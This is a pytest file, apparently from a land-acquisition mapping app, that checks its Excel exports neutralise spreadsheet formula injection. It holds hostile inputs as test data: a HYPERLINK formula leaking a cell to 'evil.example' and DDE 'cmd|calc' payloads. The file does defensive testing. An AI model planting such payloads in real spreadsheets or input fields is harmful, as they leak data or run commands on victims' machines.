"""Spreadsheet formula injection: user text in every workbook comes back as that text, a
string cell, never a formula (OWASP: values starting with = + - @ TAB CR)."""

import io
import json
from urllib.parse import quote

import pytest
from conftest import client_for
from openpyxl import load_workbook
from sqlalchemy import text

from landmap.services import users

LEAK = '=HYPERLINK("http://evil.example/leak?"&B2,"Open")'
HOSTILE = [LEAK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
CODE = '=HYPERLINK("evil.example?"&B2,"Open")'  # no space: a valid parcel code
LEADS = ("=", "+", "-", "@", "\t", "\r")


def free_parcel(db) -> tuple[str, int]:
    """A parcel of a project's batch with no history yet, and its project."""
    return db.execute(text("""
        SELECT p.code, p.project_id FROM parcel p JOIN acquisition_batch b ON b.id = p.batch_id
        WHERE b.name = '第二批' AND p.stage = 'not_started' AND NOT p.dispute
          AND NOT EXISTS (SELECT 1 FROM stage_change c WHERE c.parcel_id = p.id)
        ORDER BY p.code LIMIT 1""")).one()  # fmt: skip


def download(client, url, **query):
    resp = client.get(url, query_string=query)
    assert resp.status_code == 200, resp.get_data(as_text=True)[:500]
    return load_workbook(io.BytesIO(resp.data))


def cells(wb):
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def assert_text_only(wb, *sent: str) -> None:
    """No formula anywhere; each sent text is in some cell, exactly, as a string, flagged as
    text for Excel when it starts like a formula."""
    all_cells = cells(wb)
    assert [c.coordinate for c in all_cells if c.data_type in ("f", "e")] == []
    for value in sent:
        found = [c for c in all_cells if c.value == value]
        assert found, f"{value!r} is not in the workbook"
        assert all(c.data_type == "s" for c in found)
        if value.startswith(LEADS):
            assert all(c.quotePrefix for c in found), value


def dispute(officer, code, reason):
    resp = officer.post(f"/api/parcels/{code}/dispute",
                        json={"dispute": True, "date": "2011-12-10", "reason": reason})  # fmt: skip
    assert resp.status_code == 201, resp.get_json()


@pytest.mark.parametrize("reason", HOSTILE)
def test_a_dispute_reason_is_text_in_the_project_ledger(app, accounts, db, reason):
    officer = client_for(app, accounts["officer"]["token"])
    code, project = free_parcel(db)
    dispute(officer, code, reason)
    wb = download(officer, f"/projects/{project}/ledger.xlsx")
    assert_text_only(wb, reason)


@pytest.mark.parametrize(
    ("url", "query"),
    [("/reports/monthly.xlsx", {"month": "2011-12"}),
     ("/reports/quarterly.xlsx", {"quarter": "2011-Q4"})],
)  # fmt: skip
def test_quota_entry_ref_and_note_are_text_in_the_period_reports(client, url, query):
    sent = {"ref": LEAK, "note": "@SUM(1+1)"}
    resp = client.post("/api/quota/entries", json={"year": 2011, "kind": "grant", "mu": 1,
                                                   "date": "2011-12-05", **sent})  # fmt: skip
    assert resp.status_code == 201, resp.get_json()
    tabbed = {"year": 2011, "kind": "grant", "mu": 2, "date": "2011-12-06", "ref": "#N/A",
              "note": "\t=1+2"}  # fmt: skip
    resp = client.post("/api/quota/entries", json=tabbed)
    assert resp.status_code == 201, resp.get_json()
    wb = download(client, url, **query)
    assert_text_only(wb, LEAK, "@SUM(1+1)", "\t=1+2", "#N/A")


@pytest.fixture
def hostile_parcel(db) -> tuple[str, int]:
    """A parcel of the demo's 第二批 as a hostile shapefile would bring it: its code, owner and
    location written like formulas."""
    project, batch = db.execute(text(
        "SELECT project_id, id FROM acquisition_batch WHERE name = '第二批'")).one()  # fmt: skip
    db.execute(text("""
        INSERT INTO parcel (code, owner, location, project_id, batch_id, geom)
        VALUES (:code, '-1+cmd|calc!A0', '@SUM(1+1)', :project, :batch,
                ST_Multi(ST_MakeEnvelope(462100, 3214100, 462200, 3214200, 4546)))"""),
        {"code": CODE, "project": project, "batch": batch},
    )  # fmt: skip
    return CODE, project


def test_an_imported_code_owner_and_location_are_text_in_the_ledger(client, hostile_parcel):
    code, project = hostile_parcel
    wb = download(client, f"/projects/{project}/ledger.xlsx")
    assert_text_only(wb, code, "-1+cmd|calc!A0", "@SUM(1+1)")


def test_the_audit_export_keeps_codes_user_names_and_notes_as_text(app, client, db, hostile_parcel):
    code, _ = hostile_parcel
    name = "@evil.user"  # user names may start with @ or -
    users.add(db, name, "officer", "a long enough password")
    officer = client_for(app, users.new_token(db, name, "tests"))
    notes = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)"]
    stages = ["pre_announced", "surveyed", "plan_published", "agreement_signed"]
    for i, (stage, note) in enumerate(zip(stages, notes, strict=True)):
        resp = officer.post(
            "/api/stage-changes",
            json={"codes": [code], "stage": stage, "date": f"2011-12-0{i + 1}", "note": note},
        )
        assert resp.status_code == 201, resp.get_json()
    dispute(officer, quote(code, safe=""), LEAK)
    wb = download(client, "/audit.xlsx", entity="parcel", key=code)
    assert_text_only(wb, code, name)
    rows = wb["审计日志"].iter_rows(min_row=2, values_only=True)
    after = [json.loads(r[7]) for r in rows if r[7]]
    assert {a.get("note") for a in after} >= set(notes)
    assert LEAK in {a.get("reason") for a in after}


def test_a_draft_note_and_its_author_are_text_in_the_check_workbook(app, client, db):
    geometry = db.execute(text("""
        SELECT ST_AsGeoJSON(ST_Transform(ST_Buffer(b.geom, 20), 4326), 7)
        FROM zone_boundary b JOIN zone z ON z.id = b.zone_id
        WHERE z.code = 'C' AND b.status = 'current'""")).scalar_one()  # fmt: skip
    name = "-planner"
    users.add(db, name, "planner", "a long enough password")
    planner = client_for(app, users.new_token(db, name, "tests"))
    resp = planner.post("/api/zones/C/drafts", json={"geometry": json.loads(geometry),
                                                     "note": LEAK})  # fmt: skip
    assert resp.status_code == 201, resp.get_json()
    wb = download(client, f"/zones/C/drafts/{resp.get_json()['id']}/check.xlsx")
    assert_text_only(wb, LEAK, name)
